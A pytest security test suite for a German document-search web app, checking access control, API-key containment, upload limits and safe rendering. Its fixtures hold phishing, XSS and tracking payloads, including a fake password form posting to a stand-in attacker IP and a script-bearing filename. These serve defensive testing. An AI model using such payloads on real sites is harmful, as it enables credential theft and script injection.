"""Safe to run for a team – the real app (``python app.py``) on a free loopback port with two
users (anna is admin, ben is not), a hostile document in its corpus, two fake model servers
and a guard in the app process that refuses and logs any connection leaving this machine.

- a hostile document renders as text in Debian's Chromium, and nothing loads from outside;
- a non-admin cannot change the server address (sent as the page would send it, around the
  hidden button), an admin can, and the API key goes only to the server configured at start;
- the remote-URL file route is refused without any outbound connection; too-large uploads
  are refused in German (HTTP 413 and the browser's toast);
- an upload left behind by a crash is gone after the start;
- a network address without users is refused (exit 2), unless the flag says so.
"""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from tests.appserver import NETGUARD, ROOT, Session, free_port, start_app, stop
from tests.fake_llm import FakeLLM

pytestmark = [pytest.mark.slow, pytest.mark.server]

CHROMIUM = Path("/usr/bin/chromium")
ARGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking",
        "--disable-component-update", "--disable-sync", "--no-first-run"]
KEY = "sk-geheim-8d1f0c7e"
USERS = "anna:anna-pw:admin,ben:ben-pw"
EVIL = "198.51.100.7"
NETZWERK = ("Das Netzwerk Zuwanderung Beispielstadt trifft sich seit 2019 zweimal im Jahr. "
            "Beteiligt sind das Kommunale Integrationszentrum, das Schulamt und die Jugendhilfe.")
HOSTILE = (
    "Der Sprachkurs Wolkenberg beginnt am 6. Mai 2024 im Stadtteilzentrum Ost. "
    "Sitzung abgelaufen – bitte Passwort erneut eingeben: "
    f'<form action="http://{EVIL}/p" method="post"><input type="password" name="pw">'
    '<input type="hidden" name="t" value="1"><button>Anmelden</button></form> '
    "Der Sprachkurs Wolkenberg beginnt mit einem Elternabend am 2. Mai 2024. "
    '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:#c00;'
    'z-index:9999">Der Sprachkurs Wolkenberg beginnt erst 2025.</div> '
    "<style>body{display:none}</style>\n\n"
    "Der Sprachkurs Wolkenberg beginnt am 6. Mai 2024 um 17 Uhr. "
    "[klick](javascript:alert(1)) <script>document.title='gehackt'</script> "
    '<a href="javascript:alert(2)">Anmeldung zum Sprachkurs Wolkenberg</a> '
    f'<img src="http://{EVIL}/x.png"> ![Plakat Sprachkurs Wolkenberg](http://{EVIL}/y.png) '
    f"Mehr zum Sprachkurs Wolkenberg ab 6. Mai 2024 unter www.example.org oder "
    f"http://{EVIL}/info. Der Sprachkurs Wolkenberg beginnt <svg><text>pünktlich am 6. Mai "
    "2024 um 17 Uhr.\n")
LITERALS = ('<form action="http', '<input type="password"', "<svg><text>pünktlich",
            "[klick](javascript:alert(1))", f'<img src="http://{EVIL}/x.png">',
            f"[Plakat Sprachkurs Wolkenberg](http://{EVIL}/y.png)",  # "![": "! [" once read in
            "<style>body{display:none}</style>", "<script>", "www.example.org")
QUESTION = "Wann beginnt der Sprachkurs Wolkenberg?"


@pytest.fixture(scope="module")
def app(tmp_path_factory):
    root = tmp_path_factory.mktemp("team")
    corpus = root / "korpus"
    corpus.mkdir()
    (corpus / "netzwerk-beispielstadt.txt").write_text(NETZWERK, encoding="utf-8")
    (corpus / "sprachkurs-wolkenberg.txt").write_text(HOSTILE, encoding="utf-8")
    data = root / "daten"
    (data / "dokumente").mkdir(parents=True)
    # an upload whose ingest was killed before it finished
    (data / "dokumente" / "halb-eingelesen.txt").write_text("…", encoding="utf-8")
    netlog = root / "netz.log"
    with FakeLLM() as home, FakeLLM() as other:
        env = {"AUSGANGSLAGE_USERS": USERS, "AUSGANGSLAGE_ADMINS": "",
               "OPENAI_API_KEY": KEY, "AUSGANGSLAGE_OPENAI_BASE_URL": home.url,
               "AUSGANGSLAGE_OPENAI_MODEL": "m", "AUSGANGSLAGE_LLM": "extractive",
               "AUSGANGSLAGE_ALLOWED_LLMS": "extractive",
               "PYTHONPATH": str(NETGUARD), "AUSGANGSLAGE_TEST_NETLOG": str(netlog)}
        proc, url = start_app(["--data", str(data), "--corpus", str(corpus),
                               "--users", str(root / "keine.txt"), "--max-upload", "40kb"],
                              env, root / "app.log")
        try:
            yield type("App", (), {"url": url, "data": data, "log": root / "app.log",
                                   "netlog": netlog, "home": home, "other": other})
        finally:
            stop(proc)


def outbound(app) -> list[str]:
    return app.netlog.read_text().splitlines() if app.netlog.exists() else []


def test_an_upload_left_behind_by_a_crash_is_removed_at_start(app):
    assert not (app.data / "dokumente" / "halb-eingelesen.txt").exists()
    assert "Unvollständig eingelesene Datei entfernt" in app.log.read_text()


def test_the_remote_url_file_route_is_refused_without_going_out(app):
    ben = Session(app.url, "ben", "ben-pw")
    for target in ("http://93.184.215.14/bild.png", "https://example.com/bild.png",
                   "HTTP://example.org/x"):
        for route in (f"/gradio_api/file={target}", f"/file={target}",
                      f"/gradio_api/file/{target}"):
            status, body = ben.get(route)
            assert status == 403 and "ruft keine fremden Adressen ab" in body, (route, status)
    status, _ = ben.get("/gradio_api/proxy=https://example.com/")
    assert status == 403
    assert outbound(app) == []  # not even a name lookup


def test_a_too_large_upload_is_refused_in_german(app, tmp_path):
    ben = Session(app.url, "ben", "ben-pw")
    boundary = "grenze4711"
    body = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"files\"; "
            f"filename=\"gross.txt\"\r\nContent-Type: text/plain\r\n\r\n" + "x" * 60_000 +
            f"\r\n--{boundary}--\r\n").encode()
    status, text = ben.get("/gradio_api/upload", body,
                           {"Content-Type": f"multipart/form-data; boundary={boundary}"})
    assert status == 413 and "Die Datei ist zu groß: erlaubt sind höchstens 40kb" in text
    assert "--max-upload" in text


def test_only_an_admin_changes_the_server_address_and_the_key_stays_home(app):
    from gradio_client import Client

    ben, anna = Session(app.url, "ben", "ben-pw"), Session(app.url, "anna", "anna-pw")
    apply_fn = ben.event("alle-uebernehmen")
    load_fn = ben.event(None, "load")
    assert "nur die Administration" in ben.call(*load_fn, [])["output"]["data"][0]
    # ben sends what the hidden button would send: refused on the server, in German
    done = ben.call(*apply_fn, ["openai", "", app.other.url, "m", "hybrid", ["openai"]])
    assert done["success"] is False
    assert "dürfen nur Administratorinnen und Administratoren ändern" in done["output"]["error"]
    assert done["output"]["title"] == "Fehler"
    shown = json.dumps(anna.call(*load_fn, [])["output"]["data"])
    assert app.home.url in shown and app.other.url not in shown  # the setting stayed

    client = Client(app.url, auth=("anna", "anna-pw"), verbose=False)
    try:
        done = anna.call(*apply_fn, ["openai", "", app.home.url, "m", "hybrid", ["extractive"]])
        assert done["success"], done
        client.predict("Wie oft trifft sich das Netzwerk Zuwanderung?", api_name="/ask")
        assert app.home.keys() and set(app.home.keys()) == {f"Bearer {KEY}"}
        # the admin points everyone to another server: it gets the passages, not the key
        done = anna.call(*apply_fn, ["openai", "", app.other.url, "m", "hybrid", ["extractive"]])
        assert done["success"] and "geht der API-Schlüssel nicht mit" in done["output"]["data"][0]
        assert "**ohne** API-Schlüssel" in done["output"]["data"][1]
        data = client.predict("Wie oft trifft sich das Netzwerk Zuwanderung?", api_name="/ask")
        assert app.other.requests and KEY not in json.dumps(app.other.requests)
        assert data["citations"]
    finally:
        anna.call(*apply_fn, ["extractive", "", app.home.url, "m", "hybrid", ["extractive"]])
        client.close()
    for session in (ben, anna):
        assert not any(KEY in s for s in session.seen)
    assert KEY not in app.log.read_text()
    assert outbound(app) == []


def test_abbrechen_reaches_only_the_own_upload(app, tmp_path):
    anna, ben = Session(app.url, "anna", "anna-pw"), Session(app.url, "ben", "ben-pw")
    note = tmp_path / "notiz-anna.txt"
    note.write_text("Das Elterncafé Süd trifft sich dienstags im Familienzentrum.",
                    encoding="utf-8")
    done = anna.call(*anna.event("einlesen"), [[anna.upload(note)]])
    assert done["success"] and "1 neu" in done["output"]["data"][0]
    # the job lives in anna's session; what ben sends for it is not used
    refused = ben.call(*ben.event("abbrechen"), ["irgendeine-id"])
    assert refused["success"] is False
    assert "Es läuft kein Einlesen" in refused["output"]["error"]
    said = anna.call(*anna.event("abbrechen"), [None])["output"]["data"][0]
    assert "ist schon beendet" in said and "notiz-anna.txt" in said


@pytest.fixture(scope="module")
def page(app):
    sync_api = pytest.importorskip("playwright.sync_api")
    if not CHROMIUM.is_file():
        pytest.skip("Debian-Chromium fehlt: apt-get install -y chromium chromium-driver")
    with sync_api.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=str(CHROMIUM), args=ARGS)
        context = browser.new_context(viewport={"width": 1280, "height": 900}, locale="de-DE")
        page = context.new_page()
        page.outside = []
        page.on("request", lambda r: page.outside.append(r.url)
                if not r.url.startswith(("http://127.0.0.1", "data:", "blob:")) else None)
        page.goto(app.url)
        page.locator("input[type=text]").first.fill("ben")
        page.locator("input[type=password]").fill("ben-pw")
        page.locator("input[type=password]").press("Enter")
        page.wait_for_selector("#frage textarea", timeout=60_000)
        yield page
        browser.close()


# elements a document could bring into a rendered message (Gradio's own buttons and icons
# sit outside the message text, ".message-content" in a chat, ".prose" in a Markdown block)
FOREIGN = """(root) => {
  const found = [];
  const texts = root.querySelectorAll('.message-content, .prose');
  for (const body of texts.length ? texts : [root]) {
    for (const sel of ['form', 'input', 'button', 'svg', 'img', 'style', 'script', 'a',
                       'iframe', 'object', 'embed', 'video', 'audio', 'link', 'meta']) {
      for (const el of body.querySelectorAll(sel)) found.push(el.outerHTML.slice(0, 80));
    }
    for (const el of body.querySelectorAll('*')) {
      if (el.hasAttribute('style') || getComputedStyle(el).position === 'fixed')
        found.push('style: ' + el.outerHTML.slice(0, 60));
    }
  }
  return found;
}"""


def test_a_hostile_document_renders_as_text_and_loads_nothing(page, app):
    page.locator("#frage textarea").fill(QUESTION)
    page.locator("#frage textarea").press("Enter")
    page.locator("#gespraech details.quelle").first.wait_for(timeout=120_000)
    chat = page.locator("#gespraech")
    sources = chat.locator("details.quelle")
    for i in range(sources.count()):
        assert "wolkenberg" in sources.nth(i).locator("summary").inner_text().lower()
        sources.nth(i).locator("summary").click()
    assert chat.locator(".message-content").count() == 2  # question and answer
    assert chat.evaluate(FOREIGN) == []
    shown = chat.inner_text()
    for literal in LITERALS:
        assert literal in shown, literal
    # the unclosed <svg> swallowed nothing: every source after it is there and opens
    assert sources.count() == 2 and sources.last.locator(".fundstelle").is_visible()
    assert page.evaluate("document.querySelectorAll('a[href^=\"javascript\"], "
                         f"img[src*=\"{EVIL}\"], form[action*=\"{EVIL}\"]').length") == 0
    assert page.title() != "gehackt"
    assert page.outside == [] and outbound(app) == []


def test_an_uploaded_hostile_file_is_listed_as_text_and_a_big_one_refused_in_german(
        page, app, tmp_path):
    page.get_by_role("tab", name="Dokumente").click()
    note = tmp_path / "<img src=x onerror=alert(1)>.md"
    note.write_text("# <svg><text>Titel\n\n" + HOSTILE.replace("Wolkenberg", "Sonnental"),
                    encoding="utf-8")
    page.locator("#hochladen input[type=file]").set_input_files(str(note))
    page.wait_for_timeout(1000)
    page.locator("#einlesen").click()
    status = page.locator("#dokumente-status")
    status.get_by_text("1 neu").wait_for(timeout=120_000)
    page.get_by_text("<svg><text>Titel").first.wait_for(timeout=30_000)  # its title, as text
    assert status.evaluate(FOREIGN) == []
    assert page.evaluate(f"document.querySelectorAll('img[src*=\"{EVIL}\"], img[src=\"x\"], "
                         "a[href^=\"javascript\"]').length") == 0
    big = tmp_path / "zu-gross.txt"
    big.write_text("x" * 60_000, encoding="utf-8")
    page.locator("#hochladen input[type=file]").set_input_files(str(big))
    toast = page.get_by_test_id("toast-body").last
    toast.wait_for(timeout=30_000)
    said = toast.inner_text()
    assert "Die Datei ist zu groß" in said and "zu-gross.txt" in said and "--max-upload" in said
    assert "exceed" not in said and "Error" not in said
    assert page.outside == [] and outbound(app) == []


def test_settings_are_read_only_for_a_user_who_is_not_admin(page):
    page.get_by_role("tab", name="Einstellungen").click()
    page.locator("#rolle").get_by_text("nur die Administration").wait_for(timeout=30_000)
    assert page.locator("#server-adresse textarea, #server-adresse input").first.is_disabled()
    assert page.locator("#alle-uebernehmen").count() == 0  # no button to press
    assert KEY not in page.content()


def test_a_network_address_needs_users_or_the_explicit_flag(tmp_path):
    cmd = [sys.executable, str(ROOT / "app.py"), "--host", "0.0.0.0", "--port",
           str(free_port()), "--data", str(tmp_path / "daten"), "--users",
           str(tmp_path / "keine.txt")]
    env = {"AUSGANGSLAGE_USERS": "", "PATH": "/usr/bin:/bin"}
    out = subprocess.run(cmd, cwd=ROOT, env=env, capture_output=True, text=True, timeout=120)
    assert out.returncode == 2
    assert "Fehler: Die Adresse 0.0.0.0 ist aus dem Netz erreichbar" in out.stderr
    assert "--ohne-anmeldung-im-netz" in out.stderr and "users.txt" in out.stderr
    assert not (tmp_path / "daten").exists()  # refused before anything was loaded
    corpus = tmp_path / "korpus"
    corpus.mkdir()
    (corpus / "netzwerk.txt").write_text(NETZWERK, encoding="utf-8")
    proc, _ = start_app(["--host", "0.0.0.0", "--ohne-anmeldung-im-netz", "--data",
                         str(tmp_path / "daten"), "--corpus", str(corpus), "--users",
                         str(tmp_path / "keine.txt")], {"AUSGANGSLAGE_USERS": ""},
                        tmp_path / "app.log")
    stop(proc)
    assert "Ohne Anmeldung im Netz" in (tmp_path / "app.log").read_text()
